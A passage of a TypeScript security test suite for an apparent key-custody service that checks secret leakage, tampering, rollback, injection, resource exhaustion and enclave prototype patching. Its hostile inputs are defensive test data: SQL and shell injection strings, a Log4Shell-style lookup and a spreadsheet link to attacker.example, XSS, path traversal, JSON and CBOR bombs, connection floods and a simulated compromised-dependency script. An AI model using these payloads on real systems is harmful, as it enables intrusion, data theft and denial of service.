/** Attacks on storage, resources and what leaves the enclaves, ids H3 to H17 of docs/threat-model.md. */
import { withStack } from '../with-stack.ts';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { execFileSync } from 'node:child_process';
import { bundleEnclave, type EnclaveProgram } from '@keystead/stack/bundle';
import type { Plugin } from 'esbuild';
import {
  chmodSync,
  globSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { nodeFlags } from '@keystead/enclave-launcher/enclave-process';
import { newCredentials, readCredentials, writeCredentials } from '@keystead/sdk/node/credentials';
import { connect, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { test } from 'node:test';
import { base64urlDecode } from '@keystead/crypto/base64url';
import { openSqliteStore } from '@keystead/host-storage/sqlite/store-sqlite';
import { verifyAnswer } from '@keystead/protocol/answer-signature';
import { roles } from '@keystead/enclave-runtime/genesis-record';
import { signSeedOf } from '@keystead/enclave-runtime/role-keys';
import { checkpointInterval } from '@keystead/protocol/entry';
import {
  FromCertifier,
  FromPolicy,
  FromSigner,
  RawRequest,
  ToCertifier,
  ToPolicy,
  ToSigner,
} from '@keystead/protocol/frames';
import bs58 from 'bs58';
import nacl from 'tweetnacl';
import { type Answered, InProcess, memoryHeads } from '../core/in-process.ts';
import { genesisOf, unlockKeyOf } from '../development-secrets.ts';
import { open, recipientKeys, seal } from '../methods/hpke-secrets.ts';
import { nativeStamp, newStampKey, post, utf8 } from '../raw-client.ts';
import { type AlteredStore, alteredStore, type RowName } from './altered-store.ts';
import {
  accepted,
  Attacked,
  bodyText,
  type Caller,
  nativeRequest,
  refused,
  SOLANA,
  SURFACES,
  type Wallet,
} from './attacked.ts';
import { findSecrets, type Place, planted } from './canary.ts';
import { expressionsOf, mayBacktrack } from './regular-expressions.ts';

const ROOT = resolve(import.meta.dirname, '../..');
const running = withStack();

interface Envelope {
  readonly envelope: string;
  readonly publicKey: string;
}

/** Imports a single Ed25519 key through the native surface. */
async function importKey(
  by: Caller,
  organizationId: string,
  secret: Uint8Array,
): Promise<{ walletId: string }> {
  const importEnvelope = await by.result<Envelope>('native', 'initWalletImport', { organizationId });
  const sealed = await seal(importEnvelope.publicKey, by.deploymentId, organizationId, secret);
  return by.result('native', 'completeImportWallet', {
    organizationId,
    walletName: 'imported',
    importEnvelope,
    encryptedSecret: Buffer.from(sealed).toString('base64url'),
    curve: 'Ed25519',
  });
}

test('H3 searching every frame, row, log line and answer for a known secret finds none', async () => {
  const places: Place[] = [];
  const keep = (name: string, bytes: Uint8Array) => void places.push({ name, bytes });
  const store = alteredStore();
  const heads = memoryHeads();
  const log = (event: string, fields?: unknown) => keep('log', utf8(JSON.stringify([event, fields])));
  const stack = new InProcess({ store, heads, log });
  const watch =
    <M>(name: string, codec: { encode(message: M): Uint8Array }) =>
    (message: M): M => {
      keep(name, codec.encode(message));
      return message;
    };
  stack.host = {
    toPolicy: watch('to policy', ToPolicy),
    toSigner: watch('to signer', ToSigner),
    toCertifier: watch('to certifier', ToCertifier),
    fromPolicy: watch('from policy', FromPolicy),
    fromSigner: watch('from signer', FromSigner),
    fromCertifier: watch('from certifier', FromCertifier),
  };
  const attacked = await Attacked.found(stack);
  const { organizationId, deploymentId, wallet } = attacked;
  const imported = new Uint8Array(randomBytes(32));
  const { walletId } = await importKey(attacked, organizationId, imported);

  const secrets: Record<string, Uint8Array> = { 'imported key': imported };
  for (const [name, id] of [
    ['phrase', wallet.walletId],
    ['key', walletId],
  ] as const) {
    const recipient = await recipientKeys();
    const publicKey = Buffer.from(recipient.publicKey).toString('base64url');
    const { encryptedBundle } = await attacked.result<{ encryptedBundle: string }>('native', 'exportWallet', {
      organizationId,
      walletId: id,
      publicKey,
    });
    const bundle = base64urlDecode(encryptedBundle);
    const plain = await open(recipient.privateKey, deploymentId, organizationId, id, bundle);
    secrets[`exported ${name}`] =
      name === 'key' ? plain.subarray(3) : plain.subarray(5, 5 + Buffer.from(plain).readUInt32BE(1));
  }
  assert.deepEqual(
    Buffer.from(secrets['exported key']!),
    Buffer.from(imported),
    'the control: the secret went in and out',
  );
  for (const [role, { seed, signSeed }] of Object.entries(stack.contexts)) {
    secrets[`seed of the ${role}`] = seed.expose();
    secrets[`signing seed of the ${role}`] = signSeed.expose();
  }
  for (const surface of SURFACES) accepted(await stack.submit(attacked.signing(surface)));
  // Refusals of every kind of what holds a secret.
  const broken = {
    importEnvelope: { envelope: 'AAAA', publicKey: 'AAAA' },
    encryptedSecret: Buffer.from(imported).toString('hex'),
  };
  const failures = [
    attacked.request('native', 'completeImportWallet', {
      organizationId,
      walletName: 'I',
      curve: 'Ed25519',
      ...broken,
      encryptedSecret: 'AAAA',
    }),
    attacked.request('native', 'exportWallet', {
      organizationId,
      walletId,
      publicKey: Buffer.alloc(32).toString('base64url'),
    }),
    attacked.request('native', 'getAccounts', { organizationId, walletId, accounts: ["m/0'"] }),
  ];
  for (const failure of failures) assert.ok((await stack.submit(failure)).status >= 400);
  stack.restart();
  accepted(await stack.submit(attacked.signing('native')));
  for (const [name, bytes] of store.rows()) keep(name, bytes);
  for (const [sequence, bytes] of heads.records) keep(`heads record ${sequence}`, bytes);
  for (const context of Object.values(stack.contexts))
    keep('a context as text', utf8(`${JSON.stringify(context)}${context.seed}`));
  assert.ok(places.length > 50);
  assert.deepEqual(findSecrets(secrets, places), []);
  // The control: the scanner finds each form that it looks for.
  for (const place of planted(imported))
    assert.notDeepEqual(findSecrets({ planted: imported }, [place]), [], place.name);
});

/** Every file below a folder. */
function filesBelow(folder: string): Place[] {
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name))
    .map((name) => ({ name, bytes: readFileSync(name) }));
}

test('H3 searching the files, arguments, environment and figures of a started stack finds no secret, after kill -9 too', async () => {
  const { client, organizationId } = await running.organization('Canary');
  const imported = new Uint8Array(randomBytes(32));
  const importEnvelope = await client.native<Record<string, unknown>>('initWalletImport', { organizationId });
  const sealed = await seal(
    String(importEnvelope.publicKey),
    running.stack.deploymentId,
    organizationId,
    imported,
  );
  const params = {
    organizationId,
    walletName: 'canary',
    importEnvelope,
    encryptedSecret: Buffer.from(sealed).toString('base64url'),
    curve: 'Ed25519',
  };
  const { walletId } = await client.native<{ walletId: string }>('completeImportWallet', params);
  const recipient = await recipientKeys();
  const publicKey = Buffer.from(recipient.publicKey).toString('base64url');
  const { encryptedBundle } = await client.native<{ encryptedBundle: string }>('exportWallet', {
    organizationId,
    walletId,
    publicKey,
  });
  const bundle = Buffer.from(encryptedBundle, 'base64url');
  const plain = await open(
    recipient.privateKey,
    running.stack.deploymentId,
    organizationId,
    walletId,
    bundle,
  );
  assert.deepEqual(
    Buffer.from(plain.subarray(3)),
    Buffer.from(imported),
    'the control: the signer has the secret',
  );
  const secrets = { imported, ...roleSecrets(running.home) };
  assert.equal(Object.keys(secrets).length, 10);
  const scan = async () => {
    // The one file that holds the development unlock key says so; whoever has it needs no other.
    const unlockFile = join(running.home, 'development/unlock.key');
    const places = filesBelow(dirname(running.home)).filter(({ name }) => name !== unlockFile);
    for (const [name, pid] of running.stack.processes)
      for (const file of ['cmdline', 'environ'])
        places.push({ name: `${file} of ${name}`, bytes: readFileSync(`/proc/${pid}/${file}`) });
    const metrics = await (await fetch(`${running.api}/metrics`)).text();
    places.push({ name: 'metrics', bytes: utf8(metrics) });
    assert.ok(places.length > 15 && places.some(({ name }) => name.endsWith('store.sqlite')));
    return findSecrets(secrets, places);
  };
  assert.deepEqual(await scan(), []);
  // The control: one canary in a file of the home is found.
  const canary = join(running.home, 'canary');
  writeFileSync(canary, `{"key":"${Buffer.from(imported).toString('base64')}"}`);
  // Base64 without + and / is base64url as well.
  const found = (await scan()).map((line) => line.split(', ')[0]);
  assert.deepEqual([...new Set(found)], [`${canary}: imported`]);
  rmSync(canary);
  // An abort leaves what a crash report would hold; a kill nothing.
  for (const name of [...running.stack.processes.keys()]) {
    running.stack.kill(name, 'SIGABRT');
    await running.stack.settled();
  }
  assert.deepEqual(await scan(), []);
  await running.killAll();
  assert.deepEqual(await scan(), []);
});

/** Seeds and unlock keys of all roles of a deployment that unlocks with its development file. */
function roleSecrets(home: string): Record<string, Uint8Array> {
  return Object.fromEntries(
    roles.flatMap((role) => {
      const { seed } = genesisOf(home, role);
      return [
        [`unlock key of the ${role}`, unlockKeyOf(home, role).expose()],
        [`seed of the ${role}`, seed.expose()],
        [`signing seed of the ${role}`, signSeedOf(role, seed).expose()],
      ];
    }),
  );
}

test('H4 breaking an import at any byte, or asking with any wrong key, always gets one and the same refusal', async () => {
  const attacked = await Attacked.found();
  const { organizationId, stack, deploymentId } = attacked;
  const secret = new Uint8Array(randomBytes(32));
  const importEnvelope = await attacked.result<Envelope>('native', 'initWalletImport', { organizationId });
  const sealed = await seal(importEnvelope.publicKey, deploymentId, organizationId, secret);
  const complete = (bytes: Uint8Array, envelope: Envelope = importEnvelope) =>
    stack.submit(
      attacked.request('native', 'completeImportWallet', {
        organizationId,
        walletName: 'I',
        importEnvelope: envelope,
        encryptedSecret: Buffer.from(bytes).toString('base64url'),
        curve: 'Ed25519',
      }),
    );
  const refusals = new Map<string, number>();
  const note = (answer: Answered, what: string) => {
    const { requestId: _, ...body } = refused(answer, 'import-invalid', what);
    const text = JSON.stringify(body);
    refusals.set(text, (refusals.get(text) ?? 0) + 1);
  };
  // Each byte of key, ciphertext and tag.
  for (let at = 0; at < sealed.length; at += 1)
    note(
      await complete(Uint8Array.from(sealed, (byte, index) => (index === at ? byte ^ 1 : byte))),
      `byte ${at}`,
    );
  const elsewhere = await seal(
    importEnvelope.publicKey,
    deploymentId,
    '00000000-0000-8000-8000-000000000000',
    secret,
  );
  note(await complete(elsewhere), 'sealed for another organization');
  const other = await attacked.result<Envelope>('native', 'initWalletImport', { organizationId });
  note(
    await complete(await seal(other.publicKey, deploymentId, organizationId, secret)),
    'sealed for another envelope',
  );
  assert.deepEqual([...refusals.values()], [sealed.length + 2], [...refusals.keys()].join('\n'));

  // Unknown keys learn nothing of an organization: neither that it exists nor whether their request was well made.
  const strangers = new Set<string>();
  for (const id of [organizationId, '00000000-0000-8000-8000-000000000000']) {
    for (const surface of SURFACES) {
      for (const method of ['getOrganization', 'getOrganizationWallets', 'listPendingMigrations']) {
        const stranger = newStampKey();
        const unsigned = { ...stranger, sign: () => stranger.sign(utf8('something else')) };
        for (const key of [stranger, unsigned]) {
          const request = attacked.with(key).request(surface, method, { organizationId: id });
          const { requestId: _, ...body } = refused(await stack.submit(request), 'authenticator-unknown');
          strangers.add(JSON.stringify(body));
        }
      }
    }
  }
  assert.equal(strangers.size, 1, [...strangers].join('\n'));
  accepted(await complete(sealed), 'the control: unbroken');
});

/** Asks for a signature, which must be right, or be refused in a way that says that rows are not. */
async function signs(attacked: Attacked): Promise<'signed' | 'refused'> {
  const request = attacked.signing('native');
  const { message } = JSON.parse(Buffer.from(request.body).toString()).params as { message: string };
  const { status, body } = await attacked.stack.submit(request);
  if (status !== 200) {
    refused({ status, body } as Answered, ['organization-locked', 'signer-refused', 'unavailable']);
    return 'refused';
  }
  const { signature } = body as { signature: string };
  const key = bs58.decode(attacked.wallet.accounts[0]!.address);
  assert.ok(nacl.sign.detached.verify(utf8(message), base64urlDecode(signature), key), 'a wrong signature');
  return 'signed';
}

/** An organization with a checkpoint and some entries behind it, on a store that alters what it answers. */
async function alterable(): Promise<{ attacked: Attacked; store: AlteredStore }> {
  const store = alteredStore();
  const stack = new InProcess({ store, log: () => {} });
  const attacked = await Attacked.found(stack);
  const { organizationId } = attacked;
  await attacked.result<Wallet>('native', 'createWallet', { organizationId, walletName: 'second' });
  for (let count = 0; count < checkpointInterval; count += 1)
    accepted(await stack.submit(attacked.signing('native')));
  return { attacked, store };
}

test('H5 editing, hiding or exchanging any row of the database is noticed before the next signature', async (t) => {
  const { attacked, store } = await alterable();
  const { stack } = attacked;
  // Only what the engines ask for: without the tail, nothing is put back.
  stack.host = { fromCertifier: (message) => (message.type === 'tail' ? { ...message, rows: [] } : message) };
  stack.restart();
  store.read.clear();
  assert.equal(await signs(attacked), 'signed', 'the control: rows as they are');
  const rows = [...store.rows()];
  const needed = rows.filter(([name]) => store.read.has(name));
  const counts: Record<string, number> = {};
  const exchange = (name: RowName) =>
    rows.find(([other]) => other !== name && other.split(' ')[0] === name.split(' ')[0])?.[1];
  const alterations: [string, (name: RowName, row: Uint8Array) => Uint8Array | undefined][] = [
    ['first bit', (_, row) => Uint8Array.from(row, (byte, at) => (at === 0 ? byte ^ 1 : byte))],
    [
      'a bit in the middle',
      (_, row) => Uint8Array.from(row, (byte, at) => (at === row.length >> 1 ? byte ^ 16 : byte)),
    ],
    ['last bit', (_, row) => Uint8Array.from(row, (byte, at) => (at === row.length - 1 ? byte ^ 128 : byte))],
    ['cut short', (_, row) => row.subarray(0, row.length - 1)],
    ['hidden', () => undefined],
    ['exchanged', (name) => exchange(name)],
  ];
  for (const [name, row] of needed) {
    const table = name.split(' ')[0]!;
    for (const [what, alter] of alterations) {
      const hostile = alter(name, row);
      if (hostile !== undefined && Buffer.from(hostile).equals(row)) continue;
      store.alter = (asked, given) => (asked === name ? hostile : given);
      stack.restart();
      store.read.clear();
      const outcome = await signs(attacked);
      // Which nodes are read depends on the identity of the request.
      if (!store.read.has(name)) continue;
      assert.equal(outcome, 'refused', `${what}: ${name}`);
      counts[table] = (counts[table] ?? 0) + 1;
    }
  }
  t.diagnostic(JSON.stringify(counts));
  for (const table of ['entry', 'node', 'secret']) assert.ok(counts[table]! >= 5, table);
  // An owner is only a hint where to look.
  const elsewhere = Buffer.from((await Attacked.found(stack)).organizationId.replaceAll('-', ''), 'hex');
  store.alter = (asked, given) => (asked.startsWith('owner') ? elsewhere : given);
  stack.restart();
  assert.equal(await signs(attacked), 'signed', 'a wrong hint of an owner');
  store.alter = null;
  stack.restart();
  assert.equal(await signs(attacked), 'signed', 'the control: rows as they were');
});

test('H6 restoring an older database locks the organization, and together with the heads a client with a newer memory refuses', async () => {
  const store = alteredStore();
  const heads = memoryHeads();
  const stack = new InProcess({ store, heads, log: () => {} });
  const attacked = await Attacked.found(stack);
  const { organizationId, key, deploymentId } = attacked;
  const olderCommits = store.commits.length;
  const olderRecords = structuredClone([...heads.records]);
  let newest: Answered | undefined;
  for (let count = 0; count < 3; count += 1) newest = await stack.submit(attacked.signing('native'));
  const { position, head } = verifyAnswer({
    signature: newest!.signature,
    deploymentKeys: stack.contexts.signer.deployment,
    deploymentId: stack.contexts.signer.deploymentId,
    identity: newest!.identity,
    status: 200,
    body: newest!.body as never,
  });
  const seen = `${organizationId};${position};${Buffer.from(head).toString('base64url')}`;
  const asking = (memory: string) =>
    nativeRequest(key, deploymentId, utf8(bodyText('native', 'signUtf8Message', attacked.message())), {
      seen: memory,
    });
  accepted(await stack.submit(asking(seen)), 'the control: nothing was restored');

  stack.store = await store.copyAfter(olderCommits);
  stack.host = { fromCertifier: (message) => (message.type === 'tail' ? { ...message, rows: [] } : message) };
  stack.restart();
  refused(await stack.submit(asking(seen)), 'organization-locked', 'the database alone');
  stack.host = {};
  stack.restart();
  accepted(await stack.submit(asking(seen)), 'the control: the heads log brings the rows back');

  const olderHeads = memoryHeads();
  for (const [sequence, record] of olderRecords) await olderHeads.append(sequence, record);
  const restored = new InProcess({
    contexts: stack.contexts,
    store: await store.copyAfter(olderCommits),
    heads: olderHeads,
  });
  refused(await restored.submit(asking(seen)), 'state-rolled-back', 'both, against a client that remembers');
  // What is left: a client that remembers nothing cannot tell.
  accepted(await restored.submit(asking('none')), 'both, against a client without memory');
});

const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE entries; --",
  '" OR ""="',
  '1; DELETE FROM nodes',
  "x' UNION SELECT * FROM secrets --",
  "\\'; --",
  '%27%20OR%201=1',
  '*)(uid=*))(|(uid=*',
  '{"$gt":""}',
  '$where: 1',
  '; cat /etc/passwd',
  '$(id)',
  '`id`',
  '| id',
  '=HYPERLINK("http://attacker.example")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '%s%n%x',
  '${jndi:ldap://attacker.example}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '../../../etc/passwd',
  '%00',
  '_%',
  '\u00e9\u{1f600}',
];

test('H7 injecting SQL, shell, directory, log or spreadsheet syntax through any name or tag changes nothing else', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'keystead-'));
  try {
    const store = openSqliteStore(join(folder, 'store.sqlite'));
    const lines: string[] = [];
    const log = (event: string, fields?: unknown) =>
      void lines.push(JSON.stringify({ event, ...(fields as object) }));
    const stack = new InProcess({ store, log });
    const attacked = await Attacked.found(stack);
    const { organizationId } = attacked;
    const victim = await Attacked.found(stack);
    for (const [index, text] of INJECTIONS.entries()) {
      const surface = SURFACES[index % 2]!;
      const made = await attacked.result<Wallet>(surface, 'getOrCreateWalletWithTag', {
        organizationId,
        walletName: text,
        tag: text,
      });
      await attacked.addUser(text, { traits: { [text]: text } });
      const found = await attacked.result<Wallet>(surface, 'getWalletWithTag', { organizationId, tag: text });
      assert.equal(found.walletId, made.walletId, text);
      refused(
        await stack.submit(
          attacked.request(surface, 'getWalletWithTag', { organizationId, tag: `${text}x` }),
        ),
        'wallet-not-found',
        text,
      );
      for (const id of [text, `${attacked.wallet.walletId}${text}`])
        refused(
          await stack.submit(
            attacked.request(surface, 'getAccounts', { organizationId, walletId: id, accounts: [SOLANA] }),
          ),
          'parameter-invalid',
          text,
        );
    }
    // Line ends and control characters reach neither a name nor a line of the log.
    for (const text of ['a\r\nX-Admin: 1', 'a\n{"level":"info"}', 'a\u001b[2J', 'a\u0000b', 'a\u0085b']) {
      for (const surface of SURFACES)
        refused(
          await stack.submit(attacked.request(surface, 'createWallet', { organizationId, walletName: text })),
          'parameter-invalid',
          JSON.stringify(text),
        );
      refused(
        await stack.submit(attacked.stamped('native', JSON.stringify({ method: text, params: {} }))),
        'method-unknown',
        text,
      );
    }
    for (const line of lines) assert.doesNotMatch(line, /[\r\n]/);
    stack.restart();
    const { wallets, totalCount } = await attacked.result<{
      wallets?: { walletName: string }[];
      totalCount: number;
    }>('native', 'getOrganizationWallets', { organizationId, limit: 100 });
    assert.equal(totalCount, INJECTIONS.length + 1, JSON.stringify(wallets?.length));
    for (const one of [attacked, victim]) assert.equal(await signs(one), 'signed', 'the control');
    await store.close();
  } finally {
    rmSync(folder, { recursive: true });
  }
});

test('H8 sending documents, registrations or frames that grow when they are read is refused, and the next request is answered', async () => {
  const attacked = await Attacked.found();
  const { organizationId, stack, wallet } = attacked;
  const ethereum = { derivationPath: "m/44'/60'/0'/0/0", curve: 'Secp256k1', addressFormat: 'Ethereum' };
  const member = (text: string) => `${JSON.stringify(attacked.message()).slice(0, -1)},"x":${text}}`;
  const many = (count: number, item: (at: number) => string) =>
    Array.from({ length: count }, (_, at) => item(at)).join(',');
  const deepTypes = Object.fromEntries(
    Array.from({ length: 60 }, (_, at) => [
      `T${at}`,
      [
        { name: 'a', type: `T${at + 1}` },
        { name: 'b', type: `T${at + 1}` },
      ],
    ]),
  );
  const typed = (types: Record<string, unknown>, message: unknown, primaryType = 'T0') =>
    [
      'ethereumSignTypedData',
      JSON.stringify({
        organizationId,
        walletId: wallet.walletId,
        derivationInfo: ethereum,
        typedData: {
          types: { EIP712Domain: [{ name: 'chainId', type: 'uint256' }], ...types },
          primaryType,
          domain: { chainId: 1 },
          message,
        },
      }),
    ] as const;
  const passkey = (attestationObject: Uint8Array) =>
    [
      'createAuthenticator',
      JSON.stringify({
        organizationId,
        username: 'root',
        authenticator: {
          authenticatorName: 'p',
          authenticatorKind: 'passkey',
          credentialId: 'Y3JlZGVudGlhbA',
          transports: [],
          attestationObject: Buffer.from(attestationObject).toString('base64url'),
          clientDataJSON: Buffer.from(
            '{"type":"webauthn.create","challenge":"AA","origin":"https://a.example"}',
          ).toString('base64url'),
        },
      }),
    ] as const;
  const bombs: [string, readonly [method: string, params: string]][] = [
    ['100,000 levels', ['signUtf8Message', member('['.repeat(100_000) + ']'.repeat(100_000))]],
    ['40,000 open objects', ['signUtf8Message', member('{"a":'.repeat(40_000))]],
    ['20,000 members', ['signUtf8Message', member(`{${many(20_000, (at) => `"${at}":0`)}}`)]],
    [
      'members that begin alike',
      ['signUtf8Message', member(`{${many(2_000, (at) => `"${'a'.repeat(100)}${at}":0`)}}`)],
    ],
    ['members of integers', ['signUtf8Message', member(`{${many(14_000, (at) => `"${at * 65_536}":0`)}}`)]],
    ['100,000 items', ['signUtf8Message', member(`[${many(100_000, () => '0')}]`)]],
    ['a number of 200,000 digits', ['signUtf8Message', member('9'.repeat(200_000))]],
    ['an exponent of 200,000 digits', ['signUtf8Message', member(`1e${'9'.repeat(200_000)}`)]],
    ['40,000 escapes', ['signUtf8Message', member(`"${'\\u0041'.repeat(40_000)}`)]],
    [
      '20,000 accounts',
      [
        'createWallet',
        JSON.stringify({ organizationId, walletName: 'W', accounts: Array(9_000).fill("m/44'/501'/0'/0'") }),
      ],
    ],
    [
      'a path of 200,000 levels',
      [
        'createWallet',
        JSON.stringify({ organizationId, walletName: 'W', accounts: [`m${"/0'".repeat(60_000)}`] }),
      ],
    ],
    ['types that double 60 times', typed(deepTypes, { a: {}, b: {} })],
    ['a type within itself', typed({ T0: [{ name: 'a', type: 'T0' }] }, { a: { a: {} } })],
    ['an array of 10^15 items', typed({ T0: [{ name: 'a', type: 'uint8[999999999999999]' }] }, { a: [] })],
    [
      'an array of 60 dimensions',
      typed({ T0: [{ name: 'a', type: `uint8${'[9]'.repeat(50)}` }] }, { a: [] }),
    ],
    ['CBOR of 2^63 bytes', passkey(Buffer.from('5b8000000000000000', 'hex'))],
    ['CBOR of 2^64 - 1 members', passkey(Buffer.from('bbffffffffffffffff', 'hex'))],
    ['CBOR of 2^32 items', passkey(Buffer.from('9affffffff', 'hex'))],
    ['CBOR of 4,000 levels', passkey(Buffer.alloc(4_000, 0x81))],
    ['CBOR without an end', passkey(Buffer.alloc(4_000, 0x9f))],
    ['CBOR tags', passkey(Buffer.alloc(4_000, 0xc1))],
  ];
  const codes = [
    'json-malformed',
    'parameter-invalid',
    'request-too-large',
    'typed-data-malformed',
    'derivation-path-invalid',
    'policy-denied',
  ];
  const before = await attacked.entries();
  const memory = process.resourceUsage().maxRSS;
  for (const [what, [method, params]] of bombs) {
    for (const surface of SURFACES) {
      const body = bodyText(surface, method, {}).replace('{}', () => params);
      assert.ok(body.length < 262_144, `${what}: ${body.length}`);
      refused(await stack.submit(attacked.stamped(surface, body)), codes, `${surface}, ${what}`);
    }
  }
  assert.equal(await attacked.entries(), before);
  // Frames of a hostile gateway claim lengths that are not there.
  const codecs = { ToPolicy, ToSigner, ToCertifier, RawRequest };
  for (const [name, codec] of Object.entries(codecs))
    for (const type of [0, 1, 2, 3, 4, 5, 6, 7, 255])
      for (const length of ['ffffffff', '7fffffff', 'ffffffffffffffff', '001fffffffffffff', '0000ffff']) {
        const bytes = Buffer.from(`${type.toString(16).padStart(2, '0')}${length}`, 'hex');
        assert.throws(() => codec.decode(bytes), `${name} ${type} ${length}`);
      }
  // In kilobytes. 32 MB for each of 42 documents would be above a gigabyte.
  assert.ok(process.resourceUsage().maxRSS - memory < 256 * 1024, 'memory grew');
  for (const surface of SURFACES) accepted(await stack.submit(attacked.signing(surface)), 'the control');
});

/** Have a repetition inside a repetition, which begins or ends with a character that the inner one cannot hold. */
const UNAMBIGUOUS = [
  '^https?:\\/\\/([a-z0-9-]+(?:\\.[a-z0-9-]+)*)(?::[0-9]{1,5})?$',
  '^[A-Za-z_$][A-Za-z0-9_$]*(?:\\[[0-9]*\\])*$',
  '[A-Za-z_][A-Za-z0-9_]*(?:-[A-Za-z][A-Za-z0-9_]*)*',
  "^POST (\\/[^ ?]*) HTTP\\/1\\.1\\r\\n(?:[!#$%&'*+.^_`|~\\w-]+:[\\t -~\\x80-\\xff]*\\r\\n)+\\r\\n$",
];

test('H10 feeding texts that make regular expressions backtrack finds none that does, and none that a caller writes', (t) => {
  const files = globSync('{pure,enclave,host}/*/src/**/*.ts', { cwd: ROOT }).filter(
    (file) => !file.endsWith('.test.ts'),
  );
  assert.ok(files.length > 150);
  let count = 0;
  const suspect: string[] = [];
  const pumps = [
    'a',
    'A',
    '0',
    '-',
    '.',
    '/',
    ' ',
    '[',
    '[0]',
    '.a',
    "/0'",
    '_',
    '=',
    '"',
    '\\',
    'a-',
    'a:',
    'a:b\r\n',
    '\u0301',
    '\u200b',
  ].map((unit) => unit.repeat(20_000 / unit.length));
  for (const file of files) {
    const source = readFileSync(join(ROOT, file), 'utf8');
    // A pattern made at run time could come from a request.
    assert.doesNotMatch(source, /\bnew RegExp\(|[^.\w]RegExp\(/, file);
    for (const { pattern, flags } of expressionsOf(source)) {
      count += 1;
      if (mayBacktrack(pattern) && !UNAMBIGUOUS.includes(pattern)) suspect.push(`${file}: ${pattern}`);
      const expression = new RegExp(pattern, flags.replaceAll(/[gy]/g, ''));
      // One that backtracks would not come back; the figures are not judged.
      for (const prefix of ['', 'http://', 'm', 'a', 'keystead=:', '0x', 'POST / HTTP/1.1\r\n'])
        for (const pump of pumps) expression.test(`${prefix}${pump}!`);
    }
  }
  assert.deepEqual(suspect, []);
  t.diagnostic(`${count} expressions in ${files.length} files`);
  assert.ok(count > 60);
  // The control: forms that do backtrack.
  for (const hostile of ['(a+)+$', '(a|a)*$', '(?:[a-z]+\\.?)+x', '([0-9]*)*', '(?:a{2,})+', '((?:ab)*)+'])
    assert.ok(mayBacktrack(hostile), hostile);
  for (const harmless of ['^[a-z]+$', '(?:ab)*', '^0x[0-9a-f]{64}$', '(?:a|b)+'])
    assert.ok(!mayBacktrack(harmless), harmless);
});

test('H11 holding hundreds of connections half open, or flooding headers, stops nobody else and is ended by the server', async () => {
  const { client, organizationId } = await running.organization('Flooded');
  const { hostname, port } = new URL(running.api);
  const path = '/v1/rpc';
  const head = `POST ${path} HTTP/1.1\r\nHost: k\r\n`;
  const sockets: Socket[] = [];
  const opened = (bytes: string) =>
    new Promise<Socket>((done) => {
      const socket = connect(Number(port), hostname, () => {
        socket.write(bytes);
        done(socket);
      });
      socket.on('error', () => {});
      sockets.push(socket);
    });
  const slow = await Promise.all(Array.from({ length: 200 }, () => opened(head)));
  await Promise.all(Array.from({ length: 100 }, () => opened(`${head}Content-Length: 262144\r\n\r\n{`)));
  await Promise.all(Array.from({ length: 100 }, () => opened('')));
  const ended = slow.map((socket) => {
    // A byte of a header now and then does not make it a request.
    const timer = setInterval(() => socket.write('X'), 500);
    let text = '';
    socket.on('data', (chunk) => (text += chunk.toString('latin1')));
    return new Promise<string>((done) =>
      socket.on('close', () => {
        clearInterval(timer);
        done(text);
      }),
    );
  });
  const good = async () => {
    const body = utf8(bodyText('native', 'getOrganization', { organizationId }));
    const headers = nativeStamp(client.key, { path, body, deploymentId: running.stack.deploymentId });
    return (await post(`${running.api}${path}`, body, headers)).status;
  };
  assert.equal(await good(), 200, 'while they are open');
  const floods = [
    `X-A: ${'a'.repeat(60_000)}\r\n`,
    Array.from({ length: 3000 }, (_, at) => `X-${at}: aaaaaaaaaaaaaaaa\r\n`).join(''),
    `${'X'.repeat(60_000)}: a\r\n`,
  ];
  for (const flood of floods) {
    const socket = await opened(`${head}${flood}Content-Length: 2\r\n\r\n{}`);
    let text = '';
    socket.on('data', (chunk) => (text += chunk.toString('latin1')));
    await new Promise((done) => socket.once('close', done));
    assert.match(text, /^(HTTP\/1\.1 (431|400) |$)/);
  }
  assert.equal(await good(), 200, 'after floods of headers');
  // The server ends them; nothing here does.
  for (const text of await Promise.all(ended)) assert.match(text, /^(HTTP\/1\.1 408 |$)/);
  assert.equal(await good(), 200, 'after they were ended');
  for (const socket of sockets) socket.destroy();
});

/** What a dependency that was taken over would change to read or bend what passes through it. */
const PATCHES = `
const exchanged = (owner, name, value) => {
  const before = Object.getOwnPropertyDescriptor(owner, name);
  try { owner[name] = value; } catch {}
  const isTaken = owner[name] === value;
  if (isTaken && before !== undefined) Object.defineProperty(owner, name, before);
  if (isTaken && before === undefined) delete owner[name];
  return isTaken;
};
const made = (make) => { try { return make(); } catch { return false; } };
const taken = () => 'taken';
const patched = {
  'Array.prototype.map': exchanged(Array.prototype, 'map', taken),
  'Object.prototype.allow': exchanged(Object.prototype, 'allow', true),
  'Function.prototype.call': exchanged(Function.prototype, 'call', taken),
  'Uint8Array.prototype.slice': exchanged(Object.getPrototypeOf(Uint8Array.prototype), 'slice', taken),
  'String.prototype.normalize': exchanged(String.prototype, 'normalize', taken),
  'JSON.parse': exchanged(JSON, 'parse', taken),
  'Math.max': exchanged(Math, 'max', taken),
  'Promise.prototype.then': exchanged(Promise.prototype, 'then', taken),
  'Map.prototype.get': exchanged(Map.prototype, 'get', taken),
  'the accessor __proto__': made(() => ({}).__proto__ === Object.prototype),
  'new Function': made(() => new Function('return true')()),
  'eval': made(() => (0, eval)('true')),
};
console.log(JSON.stringify(Object.keys(patched).filter((name) => patched[name])));
`;

test('H16 patching globals, prototypes or functions inside an enclave changes nothing: intrinsics are frozen, no code comes from text', async () => {
  // A module that every bundle has, taken over: the patches run when it is loaded.
  const takenOver: Plugin = {
    name: 'taken-over',
    setup: (build) =>
      build.onLoad({ filter: /pure\/crypto\/src\/bytes\.ts$/ }, ({ path }) => ({
        contents: `${readFileSync(path, 'utf8')}\n{${PATCHES}\nprocess.exit(0);}`,
        loader: 'ts',
      })),
  };
  const withoutFreezing: Plugin = {
    name: 'without-freezing',
    setup: (build) =>
